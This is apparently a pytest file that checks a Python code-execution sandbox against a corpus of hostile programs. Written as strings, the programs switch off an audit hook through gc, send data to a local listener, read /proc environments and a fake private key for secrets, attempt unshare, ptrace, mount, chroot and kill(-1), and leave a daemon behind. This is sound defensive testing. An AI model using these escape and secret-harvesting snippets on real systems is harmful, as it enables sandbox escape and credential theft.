"""Hostile code against the sandbox boundary, run by root and by an unprivileged user.

Each program tries to leave the sandbox: open a socket to a host listener, start processes,
call libc through ctypes, write and read outside its temporary directory (a "private key"),
enter new namespaces, mount, ptrace, read the secrets in its parent's and other processes'
environments and /proc, leave a daemon behind in a new session, kill its parents, and switch
the in-interpreter audit hook off first.
Every attempt must be contained: the host sees no connection, no file change, no leftover
process, and no secret comes back in the output.

The unprivileged run uses ``setpriv --reuid=65534`` when the tests run as root and the
current user otherwise; it needs unprivileged user namespaces (else the sandbox refuses to
run without ``allow_unisolated``, which is tested too).
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from jaxrl_llm.errors import ConfigError
from jaxrl_llm.rewards import sandbox, sandbox_launch
from jaxrl_llm.rewards.sandbox import Isolation

SANDBOX_PY = Path(sandbox.__file__).resolve()
LAUNCH_PY = Path(sandbox_launch.__file__).resolve()
REPO = SANDBOX_PY.parents[2]
SECRET = "hf_SECRET_4f1c2e9d"
KEY = "-----BEGIN PRIVATE KEY----- k3y-8c1a -----END PRIVATE KEY-----"
DAEMON = "4242.5"

# Sets the closure cells of the sandbox's audit hook to harmless values, found through gc.
HOOK_OFF = """
import gc, sys
for f in gc.get_objects():
    if type(f).__name__ == 'function' and f.__name__ == 'hook' and f.__closure__:
        for cell in f.__closure__:
            v = cell.cell_contents
            if isinstance(v, (set, frozenset)):
                cell.cell_contents = set()
            elif isinstance(v, bool):
                cell.cell_contents = False
            elif isinstance(v, int):
                cell.cell_contents = 0
            elif isinstance(v, str):
                cell.cell_contents = '/'
try:
    sys.audit('socket.connect', None, ('127.0.0.1', 1))
    sys.audit('os.system', b'true')
    print('HOOK_OFF', flush=True)  # flushed: a case may kill itself (kill(-1) includes it)
except PermissionError:
    print('HOOK_ON', flush=True)
"""

CASES = {
    "socket": HOOK_OFF
    + """
import socket
s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
s.sendall(b'exfiltrated')
print('CONNECTED')
""",
    "subprocess": HOOK_OFF
    + """
import subprocess
r = subprocess.run(['/bin/sh', '-c', 'echo pwn > {dir}/pwned_sh; cat {dir}/id_rsa; '
                    'cat /proc/*/environ; echo pwn >> {dir}/id_rsa'], capture_output=True)
print(r.stdout, r.stderr)
""",
    "ctypes": HOOK_OFF
    + """
import ctypes, os
libc = ctypes.CDLL(None)
print('open new', libc.open(b'{dir}/pwned_ctypes', os.O_WRONLY | os.O_CREAT, 0o644))
fd = libc.open(b'{dir}/id_rsa', os.O_RDWR)
print('open key', fd)
if fd >= 0:
    buf = ctypes.create_string_buffer(256)
    n = libc.read(fd, buf, 255)
    print(buf.raw[:max(n, 0)])
    libc.write(fd, b'OVERWRITTEN', 11)
""",
    "files": HOOK_OFF
    + """
import os
for path, text in (('{dir}/pwned_py', 'x'), ('{dir}/id_rsa', 'OVERWRITTEN')):
    try:
        open(path, 'w').write(text)
        print('WROTE', path)
    except OSError as e:
        print(type(e).__name__)
try:
    print(open('{dir}/id_rsa').read())
except OSError as e:
    print(type(e).__name__)
try:
    print(os.listdir('{dir}'))
except OSError as e:
    print(type(e).__name__)
""",
    "environ_and_proc": HOOK_OFF
    + """
import os
print(dict(os.environ))
print('ppid', os.getppid())
for pid in sorted(os.listdir('/proc') if os.path.isdir('/proc') else []):
    if not pid.isdigit():
        continue
    for leaf in ('environ', 'cmdline'):
        try:
            print(pid, leaf, open('/proc/%s/%s' % (pid, leaf), 'rb').read())
        except OSError as e:
            print(pid, leaf, type(e).__name__)
""",
    "daemon": HOOK_OFF
    + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sleep', ['sleep', '{daemon}'])
    os._exit(0)
time.sleep(0.3)
print('DAEMON_STARTED')
""",
    "kernel_surface": HOOK_OFF
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print('unshare', libc.unshare(0x10000000 | 0x20000))  # a new user + mount namespace
print('ptrace', libc.ptrace(16, os.getppid(), 0, 0))  # PTRACE_ATTACH to the bootstrap
print('mount', libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
print('chroot', libc.chroot(b'/tmp'))
""",
    "kill_parents": HOOK_OFF
    + """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1, -1):  # -1: every process it may signal, itself included
    print(pid, libc.kill(pid, 9), flush=True)
""",
}

# Runs every case through run_python and prints the results as JSON. Executed both in the
# test process and, as an unprivileged user, in a fresh interpreter that loads sandbox.py and
# sandbox_launch.py by path (they need only the standard library and jaxrl_llm.errors; an
# import of jaxrl_llm.rewards would need the package's dependencies).
RUNNER = """
import importlib.util, json, sys
sys.path.insert(0, {repo!r})
def load(name, path):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module
if 'jaxrl_llm.rewards.sandbox_launch' not in sys.modules:  # the fresh interpreter
    load('jaxrl_llm.rewards.sandbox_launch', {launch_py!r})
sb = load('sandbox_under_test', {sandbox_py!r})
cases = json.loads({cases!r})
try:
    mode = sb.resolve_isolation('auto')
except Exception as e:
    print(json.dumps({{'refused': str(e)}}))
    raise SystemExit(0)
out = {{'mode': mode.value, 'results': {{}}}}
for name, code in cases.items():
    r = sb.run_python(code, tests=None, timeout_s=4.0, memory_mb=256)
    out['results'][name] = [r.reason, r.stdout, r.stderr]
if {process_too!r}:  # last: it makes this process non-dumpable
    import os
    r = sb.run_python(cases['environ_and_proc'], isolation='process', allow_unisolated=True,
                      timeout_s=4.0, memory_mb=256)
    out['process_environ'] = [r.reason, r.stdout + r.stderr, os.getpid()]
print(json.dumps(out))
"""


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.accepted = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self):
        while not self._stop.is_set():
            try:
                self.accepted.append(self.sock.accept())
            except OSError:
                pass

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


def _host_dir(owner_uid):
    d = tempfile.mkdtemp(prefix="jaxrl_hostile_")
    key = os.path.join(d, "id_rsa")
    with open(key, "w") as f:
        f.write(KEY)
    os.chmod(key, 0o600)
    os.chmod(d, 0o700)
    if owner_uid != os.geteuid():
        os.chown(d, owner_uid, owner_uid)
        os.chown(key, owner_uid, owner_uid)
    return d


def _daemons():
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if DAEMON.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    found.append(pid)
            except OSError:
                pass
    return found


def _runner_source(d, port, process_too=False):
    cases = {k: v.format(dir=d, port=port, daemon=DAEMON) for k, v in CASES.items()}
    return RUNNER.format(
        repo=str(REPO),
        sandbox_py=str(SANDBOX_PY),
        launch_py=str(LAUNCH_PY),
        cases=json.dumps(cases),
        process_too=process_too,
    )


def _assert_contained(out, d, listener):
    results = out["results"]
    assert set(results) == set(CASES)
    text = json.dumps(results)
    # The audit hook really was switched off, so what follows tests the kernel boundary.
    for name, (reason, stdout, stderr) in results.items():
        assert "HOOK_OFF" in stdout, (name, stdout, stderr)
        assert reason != "sandbox_error", (name, stderr)
    assert SECRET not in text and "k3y-8c1a" not in text and "MARK-7d2f" not in text
    assert "CONNECTED" not in results["socket"][1] and listener.accepted == []
    assert "WROTE" not in results["files"][1]
    assert sorted(os.listdir(d)) == ["id_rsa"]
    assert Path(d, "id_rsa").read_text() == KEY
    assert "DAEMON_STARTED" in results["daemon"][1], results["daemon"]  # it did start...
    time.sleep(0.3)
    assert _daemons() == []  # ...and did not outlive the run
    # New namespaces, ptrace, mounts and chroot are refused (capabilities dropped + seccomp).
    for call in ("unshare", "ptrace", "mount", "chroot"):
        assert f"{call} -1" in results["kernel_surface"][1], results["kernel_surface"]
    # The pid namespace shows none of the host's processes.
    pids = {
        line.split()[0]
        for line in results["environ_and_proc"][1].splitlines()
        if line.split() and line.split()[0].isdigit()
    }
    assert len(pids) <= 6, pids


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


def test_hostile_corpus_as_this_user(listener, monkeypatch):
    """As root here (CI): ``auto`` is the root namespace mode; as a user, the user namespace."""
    monkeypatch.setenv("HF_TOKEN", SECRET)
    d = _host_dir(os.geteuid())
    try:
        g = {}
        import contextlib
        import io

        buf = io.StringIO()
        with contextlib.redirect_stdout(buf):
            try:
                exec(compile(_runner_source(d, listener.port), "runner", "exec"), g)
            except SystemExit:
                pass
        out = json.loads(buf.getvalue())
        if "refused" in out:
            pytest.skip("no isolation boundary on this machine: " + out["refused"])
        assert out["mode"] in ("namespace", "user_namespace")
        _assert_contained(out, d, listener)
    finally:
        shutil.rmtree(d, ignore_errors=True)


def _unprivileged_command():
    """(argv prefix, uid) to run Python as a non-root user, or a skip reason."""
    if os.geteuid() != 0:
        return [sys.executable], os.geteuid()
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return "setpriv (util-linux) is missing", None
    python = sandbox.default_interpreter()  # one that another uid may execute
    if not sandbox_launch.world_executable(python):
        return "no Python interpreter that uid 65534 may execute", None
    return [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", python], 65534


def test_hostile_corpus_as_unprivileged_user(listener):
    prefix, uid = _unprivileged_command()
    if uid is None:
        pytest.skip(prefix)
    d = _host_dir(uid)
    try:
        env = {
            "PATH": "/usr/bin:/bin",
            "HF_TOKEN": SECRET,
            "LANG": "C.UTF-8",
            "PYTHONDONTWRITEBYTECODE": "1",
        }
        r = subprocess.run(
            [*prefix, "-B", "-c", _runner_source(d, listener.port, True), "MARK-7d2f"],
            capture_output=True,
            text=True,
            env=env,
            cwd="/",
            timeout=120,
        )
        assert r.returncode == 0, r.stderr
        out = json.loads(r.stdout.strip().splitlines()[-1])
        if "refused" in out:
            userns = Path("/proc/sys/kernel/unprivileged_userns_clone")
            pytest.skip(
                "the kernel does not allow unprivileged user namespaces here ("
                + (f"{userns}={userns.read_text().strip()}; " if userns.exists() else "")
                + out["refused"]
                + ")"
            )
        assert out["mode"] == "user_namespace"
        _assert_contained(out, d, listener)
        # Opt-in process mode has no boundary, but the launcher's environment is empty and the
        # calling (trainer) process is made non-dumpable: its environ stays unreadable.
        reason, text, runner_pid = out["process_environ"]
        assert reason == "passed", text
        assert SECRET not in text
        assert f"{runner_pid} environ PermissionError" in text
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_no_boundary_refuses_unless_allowed(monkeypatch):
    monkeypatch.setattr(sandbox, "namespaces_available", lambda: False)
    monkeypatch.setattr(sandbox, "user_namespaces_available", lambda: False)
    with pytest.raises(ConfigError, match="allow_unisolated"):
        sandbox.resolve_isolation("auto")
    with pytest.raises(ConfigError, match="allow_unisolated"):
        sandbox.run_python("print(1)")
    with pytest.raises(ConfigError, match="allow_unisolated"):
        sandbox.code_execution_reward(["p"], ["```python\nx = 1\n```"], tests=["pass"])
    assert sandbox.resolve_isolation("auto", allow_unisolated=True) == Isolation.PROCESS
    with pytest.raises(ConfigError):
        sandbox.resolve_isolation("user_namespace")
    r = sandbox.run_python(
        "def f():\n    return 1\n", tests="assert f() == 1", allow_unisolated=True, timeout_s=3.0
    )
    assert r.passed, r


@pytest.mark.skipif(
    os.geteuid() != 0,
    reason="root only: the program runs as a sandbox uid "
    "(the unprivileged case is checked in the test above)",
)
def test_process_mode_as_root_hides_secrets_and_kills_daemons():
    """Opt-in ``process`` mode (no kernel boundary) as root: the program runs as a sandbox
    uid, so a root process's environment is unreadable, and its daemons die at teardown."""
    trainer = subprocess.Popen(["sleep", "30"], env={"HF_TOKEN": SECRET})
    try:
        r = sandbox.run_python(
            CASES["environ_and_proc"], isolation="process", allow_unisolated=True, timeout_s=4.0
        )
    finally:
        trainer.kill()
        trainer.wait()
    assert r.passed, r
    assert f"{trainer.pid} environ PermissionError" in r.stdout
    assert SECRET not in r.stdout + r.stderr
    r = sandbox.run_python(
        CASES["daemon"].format(daemon=DAEMON),
        isolation="process",
        allow_unisolated=True,
        timeout_s=4.0,
    )
    assert "DAEMON_STARTED" in r.stdout, r
    time.sleep(0.3)
    assert _daemons() == []
